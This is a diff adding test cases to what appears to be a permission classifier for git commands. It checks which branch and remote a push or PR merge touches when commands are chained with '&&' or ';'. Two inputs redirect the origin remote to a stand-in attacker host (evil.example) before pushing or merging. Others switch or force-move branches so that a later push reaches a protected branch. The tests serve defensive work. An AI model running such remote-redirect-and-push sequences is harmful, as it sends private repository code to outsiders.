@@ -195,6 +195,21 @@ describe('R-CLS-1: which branch a push changes', () => {
     expect(await run('git push')).toEqual(['git.push ? of acme/shop [protected] ?'])
   })
 
+  test.each<[string, string]>([
+    ['git commit -qm x && git push origin feat', 'git.push feat of acme/shop ?'],
+    ['git commit -qm x; git push', 'git.push feat of acme/shop ?'],
+    ['git switch main && git push', 'git.push ? of ? [protected] ?'],
+    ['git checkout main && git push origin HEAD', 'git.push ? of acme/shop [protected] ?'],
+    ['git remote set-url origin https://evil.example/x; git push origin feat', 'git.push feat of ? ?'],
+    ['git branch -f feat HEAD~1 && git push origin feat', 'git.push feat of acme/shop ?'],
+    ['git push origin +feat feat', 'git.push feat of acme/shop'],
+    ['git remote set-url origin https://evil.example/x; gh pr merge 1', 'pr.merge ?#1 of ? ?'],
+  ])('%s: what comes before it in the same line is not there yet', async (command, expected) => {
+    repository.git('switch', '-q', '-c', 'feat')
+    repository.commit({ 'src/b.ts': '' })
+    expect((await run(command)).at(-1)).toBe(expected)
+  })
+
   test('the remote that the settings name', async () => {
     repository.git('remote', 'add', 'fork', 'https://github.com/me/shop')
     repository.git('config', 'remote.pushDefault', 'fork')
